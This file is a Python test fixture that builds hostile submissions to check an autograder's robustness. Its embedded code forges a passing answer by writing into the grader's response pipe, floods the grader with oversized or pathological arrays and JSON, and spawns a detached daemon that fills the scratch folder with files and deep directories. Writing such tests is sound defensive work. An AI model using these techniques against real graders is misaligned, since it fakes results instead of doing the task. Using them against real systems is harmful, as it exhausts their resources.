"""Hostile Exercise 1 submissions aimed at the trusted side, for test_robustness.py.

Each is the reference solution with one or more functions replaced. The replacements
write a forged answer straight into the pipe the grader reads (a student process can:
the pipe is its own), fill the scratch folder from a process that outlives the call, or
leave a process behind. Everything else in the file is correct, so a grader that survives
the attack loses the attacked function's points and no others.
"""

from __future__ import annotations

from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EX1 = "ex_01_basic_rnn.py"

# Writes `header` and the zip `members` as one answer on the response pipe, found as the
# process's only pipe open for writing, then exits: the grader reads the forgery first.
FORGE = '''

import fcntl as _fcntl
import io as _io
import json as _json
import os as _os
import struct as _struct
import zipfile as _zipfile


def _answer_pipe():
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            link = _os.readlink(f"/proc/self/fd/{name}")
            flags = _fcntl.fcntl(fd, _fcntl.F_GETFL)
        except OSError:
            continue
        if link.startswith("pipe:") and flags & _os.O_ACCMODE == _os.O_WRONLY:
            return fd
    raise RuntimeError("no answer pipe")


def _npy(descr, shape, data=b""):
    text = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    text += b" " * (63 - (len(text) + 10) % 64) + b"\\n"
    return b"\\x93NUMPY\\x01\\x00" + _struct.pack("<H", len(text)) + text + data


def _forge(header, members=(), head_bytes=None):
    buf = _io.BytesIO()
    if members:
        with _zipfile.ZipFile(buf, "w", _zipfile.ZIP_STORED) as zf:
            for name, data in members:
                zf.writestr(name, data)
    body = buf.getvalue()
    head = head_bytes if head_bytes is not None else _json.dumps(header).encode()
    fd = _answer_pipe()
    _os.set_blocking(fd, True)
    data = memoryview(_struct.pack("<Q", len(head)) + head + _struct.pack("<Q", len(body)) + body)
    try:
        while data:
            data = data[_os.write(fd, data):]
    finally:
        _os._exit(0)

_OK = {"ok": True, "result": {"nd": "a0"}, "mutations": []}
'''

ATTACKS = {
    # A zero-sized dtype passes `count * itemsize == bytes` with any shape.
    "void_dtype": '''
def clip_grad_norm(grads, max_norm):
    _forge(_OK, [("a0.npy", _npy("|V0", (10**18,)))])
''',
    # Hundreds of thousands of tiny arrays: work in proportion to their number.
    "many_members": '''
def clip_grad_norm(grads, max_norm):
    one = _npy("<f8", (1,), bytes(8))
    _forge(_OK, [(f"a{i}.npy", one) for i in range(200_000)])
''',
    # 16 MB of JSON that parses into millions of Python objects.
    "json_flood": '''
def clip_grad_norm(grads, max_norm):
    _forge(None, head_bytes=b'{"ok": true, "mutations": [], "result": {"list": ['
           + b"{}," * (16 * 2**20 // 3) + b"{}]}}")
''',
    # One legal array of 128 MB, read, loaded and copied.
    "large_body": '''
def clip_grad_norm(grads, max_norm):
    n = (128 * 2**20 - 4096) // 8
    _forge(_OK, [("a0.npy", _npy("<f8", (n,), bytes(8 * n)))])
''',
    # One array referenced a hundred thousand times: each reference a copy.
    "reused_array": '''
def clip_grad_norm(grads, max_norm):
    n = 2**20 // 8
    _forge({"ok": True, "mutations": [], "result": {"list": [{"nd": "a0"}] * 100_000}},
           [("a0.npy", _npy("<f8", (n,), bytes(8 * n)))])
''',
}

# A process that outlives the call and fills scratch/ (the student's only folder).
SCRATCH = '''

import os as _os


def _daemon(work):
    if _os.fork():
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        work()
    finally:
        _os._exit(0)


def _many_files(n, depth):
    def work():
        _os.chdir(_os.environ.get("TMPDIR", "scratch"))
        for level in range(depth):
            _os.mkdir("d")
            _os.chdir("d")
            for i in range(n // depth):
                open(f"f{level}_{i}", "wb").close()
    return work


def _deep_chain(depth):
    def work():
        _os.chdir(_os.environ.get("TMPDIR", "scratch"))
        for _ in range(depth):
            _os.mkdir("d")
            _os.chdir("d")
        open("leaf", "wb").close()
    return work
'''

SCRATCH_ATTACKS = {
    "many_files": '''
_started = []
def init_params(D, H, V, rng, _real=init_params):
    if not _started:
        _started.append(1)
        _daemon(_many_files(200_000, 400))
        import time
        time.sleep(8)  # the files are there when the call returns
    return _real(D, H, V, rng)
''',
    "deep_chain": '''
_started = []
def init_params(D, H, V, rng, _real=init_params):
    if not _started:
        _started.append(1)
        _daemon(_deep_chain(3000))
        import time
        time.sleep(3)
    return _real(D, H, V, rng)
''',
}


def reference() -> str:
    return (REPO / "solutions" / EX1).read_text()


def submission(folder: Path, *names: str) -> Path:
    """Write the reference with the named attacks appended to `folder`/ex_01_basic_rnn.py."""
    source = reference()
    if any(n in ATTACKS for n in names):
        source += FORGE
    if any(n in SCRATCH_ATTACKS for n in names):
        source += SCRATCH
    for name in names:
        source += ATTACKS.get(name) or SCRATCH_ATTACKS[name]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / EX1).write_text(source)
    return folder
